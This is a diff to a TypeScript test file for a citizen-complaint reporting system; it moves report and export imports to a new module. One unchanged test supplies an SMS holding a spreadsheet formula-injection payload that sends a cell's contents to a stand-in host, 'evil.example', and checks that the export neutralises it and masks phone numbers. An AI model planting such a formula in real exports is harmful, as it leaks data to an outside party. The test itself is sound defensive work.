@@ -8,7 +8,7 @@ import { ingestId, inboundMessageSchema } from '../../core/message.ts';
 import { createUnderstander } from '../../core/understanding/index.ts';
 import { officerClassify, officerCommand } from '../../core/lifecycle/service.ts';
 import { loadDivisions } from '../../scripts/eval.ts';
-import { monthlyReport } from '../../scripts/report.ts';
+import { monthlyReport } from '../../core/report.ts';
 import { listCases } from '../../core/repo/cases.repo.ts';
 import { testConfig } from '../helpers/config.ts';
 import { smsIntake } from '../helpers/intake.ts';
@@ -119,7 +119,7 @@ describe('aduan report --month', () => {
 describe('aduan export', () => {
   it('a citizen text that a spreadsheet would run as a formula is written as text; citizens\' phone numbers are masked', async () => {
     const { chainSetup } = await import('../helpers/chain.ts');
-    const { exportCases } = await import('../../scripts/report.ts');
+    const { exportCases } = await import('../../core/report.ts');
     const s = chainSetup();
     const a = s.sms('+6281299998888', '=HYPERLINK("http://evil.example/x?"&A1,"Klik") jalan rusak di Jl. Kenari mohon diperbaiki');
     s.sms('+6281299998888', `${a} -2+3 lubangnya makin besar`);
@@ -137,7 +137,7 @@ describe('aduan export', () => {
 describe('report and export of a long history', () => {
   it('more cases than SQLite takes bound values (32,766) are reported and exported, each with its own events', async () => {
     const { addEvent, insertCase } = await import('../../core/repo/cases.repo.ts');
-    const { exportCases } = await import('../../scripts/report.ts');
+    const { exportCases } = await import('../../core/report.ts');
     const db = openDb(':memory:');
     const N = 33_000;
     db.transaction((tx) => {
